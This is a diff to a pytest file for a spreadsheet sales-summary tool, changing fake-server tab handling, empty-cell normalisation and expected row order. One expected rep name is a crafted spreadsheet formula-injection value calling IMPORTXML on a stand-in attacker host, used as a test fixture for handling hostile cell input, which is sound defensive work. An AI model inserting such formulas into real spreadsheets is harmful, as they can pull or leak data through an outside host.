@@ -16,7 +16,6 @@ from typing import Any
 import pytest
 from sqlalchemy import create_engine, text
 
-from sheets.xlsx import XlsxBackend, create_workbook
 from tests.cycle.conftest import run_cli
 from tests.sheets_api.server import FakeSheetsServer
 
@@ -90,16 +89,20 @@ class Spreadsheet:
 
     def put(self, tabs: dict[str, list[list[Any]]]) -> None:
         if self.backend == "xlsx":
+            from sheets.xlsx import create_workbook
+
             create_workbook(self.path, tabs)
             return
-        for title, grid in tabs.items():
-            if title not in self.server.tab_titles("crafted-sheet"):
-                self.server.add_tab("crafted-sheet", title)
-            self.server.set_values("crafted-sheet", title, grid)
+        for title, grid in tabs.items():  # a tab is replaced whole, as if rows had been deleted
+            if title in self.server.tab_titles("crafted-sheet"):
+                self.server.delete_tab("crafted-sheet", title)
+            self.server.add_tab("crafted-sheet", title, grid)
 
     def output(self, tab: str) -> list[list[Any]]:
         """An output tab as read back (trailing blanks trimmed)."""
         if self.backend == "xlsx":
+            from sheets.xlsx import XlsxBackend
+
             grid = XlsxBackend(self.path).read_tabs([tab])[tab]
         else:
             grid = self.server.get_values("crafted-sheet", tab) if tab in self.server.tab_titles(
@@ -115,8 +118,10 @@ class Spreadsheet:
 
 
 def by_rep(summary: list[list[Any]]) -> dict[str, dict[str, Any]]:
+    """Summary rows by email, header → value; an empty cell is None whichever way it reads back."""
     header = summary[0][:25]
-    return {row[1]: dict(zip(header, row[:25] + [None] * (25 - len(row)), strict=True))
+    return {row[1]: {h: (None if v == "" else v) for h, v in zip(header, row[:25] + [None] * (25 - len(row)),
+                                                                   strict=True)}
             for row in summary[1:] if len(row) > 1 and row[1]}
 
 
@@ -188,8 +193,8 @@ def test_first_cycle_stores_good_rows_and_reports_every_bad_cell(setup: tuple[Pa
         "Yearly Signup Goal", "YTD Signup %", "YTD Revenue", "Yearly Revenue Goal", "YTD Revenue %",
         "Yearly Pace", "Streak", "Trend",
     ]
-    assert [row[0] for row in summary[1:5]] == ["Alice Able", "Bob Baker", "Carol Chen",
-                                                 '=IMPORTXML("http://evil.example/x","//a")']
+    assert [row[0] for row in summary[1:5]] == ["Alice Able", "Bob Baker",  # team, then name
+                                                 '=IMPORTXML("http://evil.example/x","//a")', "Carol Chen"]
     reps = by_rep(summary)
     assert reps["alice@example.com"] == {
         "Rep": "Alice Able", "Email": "alice@example.com", "Team": "East", "Signups": 12, "Signup Goal": 15,
